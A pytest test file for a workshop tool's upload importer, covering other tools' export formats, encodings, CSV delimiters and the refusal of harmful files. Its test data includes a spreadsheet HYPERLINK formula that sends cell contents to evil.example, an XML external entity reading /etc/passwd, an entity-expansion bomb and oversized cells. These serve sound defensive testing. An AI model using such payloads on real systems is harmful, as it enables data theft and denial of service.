"""Reading what facilitators paste and upload: the formats of other tools, and files that mean harm."""

from __future__ import annotations

import zipfile

import pytest

from tests.workshops.excel import HEAD, packed, sheet_of, workbook
from workshops.bring_in import columns, files, text
from workshops.bring_in.check import checked
from workshops.bring_in.sheet import MOST_BYTES, MOST_COLUMNS, MOST_ROWS, Unreadable

MURAL = """ID,BG COLOR,TEXT,AREA,POSITION X,POSITION Y,LINK,LAST UPDATED BY,LAST UPDATED,TAGS
0-1,#FCFE7D,"Ring back the same day, always",Ideas,120,88,,Ann Smith,2026-09-01,
0-2,#FCFE7D,A buddy for the first month,Ideas,320,88,,Ben Hall,2026-09-01,urgent
"""
GOOGLE = """Timestamp,Email Address,Your role,What would help most?
2026/09/01 10:00:01 am GMT+1,ann@example.org,Nurse,"A place to meet
without an appointment"
2026/09/01 10:03:11 am GMT+1,ben@example.org,Carer,Somebody who rings back
"""
MICROSOFT = (
    ("ID", "Start time", "Completion time", "Email", "Name", "What stops you today?"),
    (1, 46266.41, 46266.42, "anonymous", None, "Nobody answers the telephone"),
    (2, 46266.43, 46266.44, "anonymous", None, "I don't know whom to ask"),
)
MENTIMETER = (
    ("Voter", "What one word describes today?", "What should we try first?"),
    (1, "hopeful", "Peer visits on the ward"),
    (2, "busy", "A shared calendar"),
)
MIRO = "Ring back the same day,A buddy for a month,Evening hours\nHome visits,Text before you call,A map of who does what\n"


def ideas(name: str, data: bytes) -> list[str]:
    """What would be brought in if the facilitator took the guess."""
    sheet = files.read(name, data)[0]
    found = columns.guess(sheet)
    return [cell for _number, cell in columns.picked(sheet, found.column, titles=found.titles)]


@pytest.mark.parametrize(
    ("name", "data", "expected", "tool"),
    [
        ("mural.csv", MURAL.encode(), ["Ring back the same day, always", "A buddy for the first month"], "Mural"),
        ("form.csv", GOOGLE.encode(), ["A place to meet without an appointment", "Somebody who rings back"], "Google"),
        ("forms.xlsx", workbook(("Sheet1", MICROSOFT)), ["Nobody answers the telephone", "I don't know whom to ask"], "Microsoft"),
        ("menti.xlsx", workbook(("Results", MENTIMETER)), ["Peer visits on the ward", "A shared calendar"], "Mentimeter"),
        (
            "miro.csv",
            MIRO.encode(),
            ["Ring back the same day", "A buddy for a month", "Evening hours", "Home visits", "Text before you call", "A map of who does what"],
            "",
        ),
    ],
    ids=["mural", "google forms", "microsoft forms", "mentimeter", "miro"],
)  # fmt: skip
def test_the_exports_of_other_tools_are_understood(
    name: str, data: bytes, expected: list[str], tool: str
) -> None:
    assert ideas(name, data) == expected
    assert tool in str(columns.guess(files.read(name, data)[0]).tool)


@pytest.mark.parametrize(
    "data",
    [
        "Ärzte, Pflege\nnach Hause; bald".encode(),
        "\ufeffÄrzte, Pflege\r\nnach Hause; bald\r\n".encode(),
        "Ärzte, Pflege\nnach Hause; bald".encode("utf-16"),
        "Ärzte, Pflege\nnach Hause; bald".encode("cp1252"),
        "\n\nÄrzte, Pflege\n   \nnach   Hause; bald\n\n".encode(),
    ],
    ids=["utf-8", "with a mark and CRLF", "utf-16", "windows", "with gaps"],
)
def test_a_text_file_is_one_idea_a_line_whatever_its_letters(data: bytes) -> None:
    assert ideas("notes.txt", data) == ["Ärzte, Pflege", "nach Hause; bald"]


@pytest.mark.parametrize("mark", [",", ";", "\t", "|"])
def test_csv_is_read_whatever_stands_between_its_cells(mark: str) -> None:
    rows = (["id", "idea"], ["1", f"One{mark} and more"], ["2", 'So-called "two"'])
    data = "\n".join(mark.join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows)
    expected = [" ".join(f"One{mark} and more".split()), 'So-called "two"']
    assert ideas("x.csv", data.encode()) == expected
    assert ideas("x.csv", f"sep={mark}\n{data}".encode()) == expected


def test_cells_copied_out_of_a_spreadsheet_are_a_table_and_sentences_with_commas_are_not() -> None:
    (sheet,) = text.lines("Id\tIdea\n1\tFirst one\n2\tSecond one")
    assert sheet.columns() == 2
    (sheet,) = text.lines("Yes, please\nNo, thank you\nWell, perhaps")
    assert sheet.columns() == 1


def test_rows_keep_their_number_and_sheets_their_name() -> None:
    rows = (("Idea",), (None,), ("Third row",))
    sheets = files.read(
        "x.xlsx", workbook(("Before", rows), ("Hidden", rows), ("After", (("x",),)), hidden=["Hidden"])
    )
    assert [sheet.name for sheet in sheets] == ["Before", "After"]
    assert sheets[0].rows == [(1, ["Idea"]), (3, ["Third row"])]


def test_of_a_formula_only_its_kept_value_is_read() -> None:
    data = workbook(("S", ((('HYPERLINK("http://evil.example/?"&A1)', "A harmless label"),),)))
    assert files.read("x.xlsx", data)[0].rows == [(1, ["A harmless label"])]


BOMB = sheet_of('<row r="1"><c r="A1" t="inlineStr"><is><t>' + "a" * 40_000_000 + "</t></is></c></row>")
LAUGHS = (
    f'{HEAD}<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    '<worksheet><sheetData><row r="1"><c t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>'
)
OUTSIDE = f'{HEAD}<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet><sheetData><row><c t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>'
FAR = sheet_of('<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>')
FAR_DOWN = sheet_of('<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>far down</t></is></c></row>')
LONG = tuple((f"Line {n}",) for n in range(MOST_ROWS + 1))
PART = "xl__worksheets__sheet1_dot_xml"


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (workbook(("S", ()), **{PART: BOMB}), "too much text"),
        (workbook(("S", ()), **{PART: LAUGHS}), "not an Excel file"),
        (workbook(("S", ()), **{PART: OUTSIDE}), "not an Excel file"),
        (workbook(("S", ()), **{PART: FAR}), f"more than {MOST_COLUMNS} columns"),
        (workbook(("S", LONG)), f"more than {MOST_ROWS} rows"),
        (workbook(("S", ()), **{PART: "<worksheet><sheetData>"}), "not an Excel file"),
        (workbook(("S", ())), "nothing in this file"),
        (packed({"hello.txt": "not a workbook"}), "not an Excel file"),
        (packed({"_rels/.rels": "<x/>", "xl/workbook.xml": "x" * 1000}, zipfile.ZIP_BZIP2), "not an Excel file"),
        (b"PK\x03\x04 and then nothing that a ZIP has", "not an Excel file"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "older Excel file"),
        (b"%PDF-1.7\0\0\x01\x02", "not a text file"),
        (b"\x00\x01\x02\x03" * 50, "not a text file"),
        (b"a" * (MOST_BYTES + 1), "larger than 2 MB"),
        (b"\n \n\t\n", "nothing in this file"),
        (b"", "nothing in this file"),
        (b",".join(b"x" * 3 for _ in range(MOST_COLUMNS + 1)) + b"\n" + b"1," * MOST_COLUMNS + b"1\n", "more than 100 columns"),
        (("long " * 40_000 + "\n").encode() * 3, "too much text"),
        (workbook(("S", (("word " * 110_000,) * 90,))), "too much text"),
    ],
    ids=[
        "bomb", "laughs", "entity from outside", "far cell", "too many rows", "broken", "empty", "other zip", "odd packing",
        "cut off", "old excel", "pdf", "noughts", "too large", "blank", "nothing", "too wide", "too long",
        "one long text in many cells",
    ],
)  # fmt: skip
def test_what_cannot_be_taken_says_why(data: bytes, says: str) -> None:
    with pytest.raises(Unreadable) as refused:
        files.read("upload.csv", data)
    assert says in str(refused.value.sentence)


def test_a_sheet_is_as_large_as_its_cells_whatever_it_says() -> None:
    (sheet,) = files.read("x.xlsx", workbook(("S", ()), **{PART: FAR_DOWN}))
    assert sheet.rows == [(1_048_576, ["far down"])]


def test_each_line_says_what_is_wrong_with_it() -> None:
    lines = checked(
        [
            "Good one",
            "",
            "x" * 31,
            "Ring 07700 900123 at night",
            "good  ONE!",
            "There already",
            "An odd \u202e one",
            "\u2028",
            "Another good one",
        ],
        most=30,
        there=["there already."],
    )
    assert [(line.place, str(line.problem)) for line in lines] == [
        (1, ""),
        (3, "It is 1 character too long. Up to 30 fit."),
        (4, "It looks like it has a telephone number in it. Take that out."),
        (5, "It says the same as line 1."),
        (6, "It is on the list already."),
        (7, "It has characters that can't be shown. Type it again."),
        (9, ""),
    ]
